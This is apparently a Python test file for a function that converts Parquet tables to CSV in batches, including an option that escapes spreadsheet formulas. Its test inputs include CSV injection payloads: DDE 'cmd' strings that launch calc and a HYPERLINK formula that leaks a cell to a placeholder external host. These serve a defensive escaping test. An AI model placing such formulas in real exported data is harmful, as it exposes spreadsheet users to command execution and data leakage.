"""Tables become CSV a batch at a time."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import polars as pl
import pytest

from designer.foundation.errors import Unprocessable
from runs.api import table_files
from runs.api.table_files import csv_chunks


def test_the_csv_of_a_table_reads_back_with_the_standard_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table_files, "BATCH_ROWS", 2)
    frame = pl.DataFrame(
        {
            "make": pl.Series(["audi", 'say "hi", twice', None], dtype=pl.Categorical),
            "price": [1.5, None, -3.0],
            "sold": [datetime(2026, 1, 2, 3, 4, 5)] * 3,
        }
    )
    frame.write_parquet(tmp_path / "t.parquet")

    chunks = list(csv_chunks(tmp_path / "t.parquet"))

    assert len(chunks) == 3  # the header, two rows, one row
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
    assert rows[0] == ["make", "price", "sold"]
    assert [row[:2] for row in rows[1:]] == [["audi", "1.5"], ['say "hi", twice', ""], ["", "-3.0"]]
    assert {row[2][:19] for row in rows[1:]} == {"2026-01-02T03:04:05"}


#: https://owasp.org/www-community/attacks/CSV_Injection, and what real columns hold.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-",
    "--1",
    "+41 44 123 45 67",
]
NO_FORMULAS = ["", "audi", "a=b", "1=1", "-5", "+3.25", "-.5", "-1e-7", "'=1+1", "x@example.org", None]


def test_formulas_are_marked_as_text_on_request(tmp_path: Path) -> None:
    cells = [*FORMULAS, *NO_FORMULAS]
    frame = pl.DataFrame(
        {"=name": cells, "kind": pl.Series(cells, dtype=pl.Categorical), "number": [-1.5] * len(cells)}
    )
    frame.write_parquet(tmp_path / "t.parquet")

    marked = b"".join(csv_chunks(tmp_path / "t.parquet", formulas_as_text=True)).decode()
    rows = list(csv.reader(io.StringIO(marked, newline="")))
    expected = [*(f"'{cell}" for cell in FORMULAS), *(cell or "" for cell in NO_FORMULAS)]
    assert rows[0] == ["'=name", "kind", "number"]
    assert [row[0] for row in rows[1:]] == expected
    assert [row[1] for row in rows[1:]] == expected
    assert {row[2] for row in rows[1:]} == {"-1.5"}

    exact = b"".join(csv_chunks(tmp_path / "t.parquet")).decode()
    rows = list(csv.reader(io.StringIO(exact, newline="")))
    assert [row[0] for row in rows] == ["=name", *(cell or "" for cell in cells)]


def test_two_columns_may_have_the_same_name_once_marked(tmp_path: Path) -> None:
    pl.DataFrame({"=a": [1], "'=a": [2], "^.*$": ["=x"]}).write_parquet(tmp_path / "t.parquet")
    assert b"".join(csv_chunks(tmp_path / "t.parquet", formulas_as_text=True)) == b"'=a,'=a,^.*$\n1,2,'=x\n"


def test_an_empty_table_is_a_header(tmp_path: Path) -> None:
    pl.DataFrame({"a": [], "b": []}).write_parquet(tmp_path / "t.parquet")
    assert b"".join(csv_chunks(tmp_path / "t.parquet")) == b"a,b\n"


def test_lists_are_refused_before_the_first_byte(tmp_path: Path) -> None:
    pl.DataFrame({"a": [[1, 2]]}).write_parquet(tmp_path / "t.parquet")
    with pytest.raises(Unprocessable, match="Column 'a' holds lists"):
        csv_chunks(tmp_path / "t.parquet")
